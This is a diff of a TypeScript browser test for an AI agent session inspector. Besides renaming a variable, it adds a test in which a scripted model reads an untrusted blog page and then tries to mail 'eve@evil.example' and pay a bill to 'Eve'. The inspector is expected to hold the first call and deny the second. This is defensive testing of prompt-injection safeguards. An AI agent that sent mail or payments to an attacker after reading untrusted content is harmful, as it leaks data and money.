@@ -1,4 +1,5 @@
-import { MemoryStore } from "@pollux/core";
+import { Agent, defineTool, MemoryStore } from "@pollux/core";
+import { call, calls, ScriptedModel } from "@pollux/core/testing";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { type Chromium, openChromium } from "../../../../test/runtimes/support/chromium.ts";
 import { DEMO_IDS, makeDemoSessions } from "../demo-sessions.ts";
@@ -7,11 +8,11 @@ import { type BuiltPage, builtPage, type ServedInspector } from "./support/serve
 
 const [sessions, exchanges] = [new MemoryStore(), new MemoryStore()];
 let browser: Chromium;
-let page: BuiltPage;
+let built: BuiltPage;
 let served: ServedInspector;
 beforeAll(async () => {
-  [browser, page] = await Promise.all([openChromium(), builtPage(), makeDemoSessions({ sessions, exchanges })]);
-  served = await page.serve({
+  [browser, built] = await Promise.all([openChromium(), builtPage(), makeDemoSessions({ sessions, exchanges })]);
+  served = await built.serve({
     title: "/home/me/sessions",
     store: sessions,
     exchanges,
@@ -22,7 +23,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await browser[Symbol.asyncDispose]();
   await served[Symbol.asyncDispose]();
-  await page[Symbol.asyncDispose]();
+  await built[Symbol.asyncDispose]();
 });
 
 const open = async (hash: string = "#/"): Promise<InspectorTab> => await InspectorTab.open(browser, served.url + hash);
@@ -240,6 +241,37 @@ test("a session that is not there is no dead end", async () => {
   await tab.sees(`${DEMO_IDS.length} shown`);
   // The browser says so itself.
   tab.errors.splice(0, tab.errors.length, ...tab.errors.filter((text) => !text.includes("404")));
+  await tab.close();
+});
+
+test("marks the call that made the history untrusted, and says why others were asked about or denied", async () => {
+  const store = new MemoryStore();
+  const page = defineTool({
+    name: "fetch_page",
+    description: "x",
+    reads: "untrusted",
+    origin: "browser",
+    run: () => "x",
+  });
+  const sends = { description: "x", effects: "once", reads: "trusted", run: () => "sent" } as const;
+  const mail = defineTool({ name: "send_mail", ...sends });
+  const pay = defineTool({ name: "pay_bill", ...sends, afterUntrusted: "deny" });
+  const fetched = call("fetch_page", { url: "https://blog.example/" });
+  const both = calls(
+    { name: "send_mail", args: { to: "eve@evil.example" } },
+    { name: "pay_bill", args: { to: "Eve" } },
+  );
+  const model = new ScriptedModel(fetched, both);
+  await new Agent({ model, tools: [page, mail, pay] }).session({ id: "s", store }).send("Read the blog.");
+  await using own = await built.serve({ title: "x", store });
+  const tab = await InspectorTab.open(browser, `${own.url}#/s/s`);
+  const why = (what: string): string =>
+    `would reach outside (${what}) after the agent read untrusted content from fetch_page blog.example.`;
+  await tab.sees(`It ${why("send_mail to eve@evil.example")}`, ".pending");
+  await tab.sees(`It was denied because it ${why("pay_bill to Eve")}`, '[data-call="call:2.1"]');
+  expect(await tab.texts(".line-step .tone-odd")).toEqual(["untrusted"]);
+  expect(await tab.texts(".line-turn .tone-odd")).toEqual(["untrusted", "held"]);
+  expect(await tab.seriousFindings()).toEqual([]);
   await tab.close();
 });
 
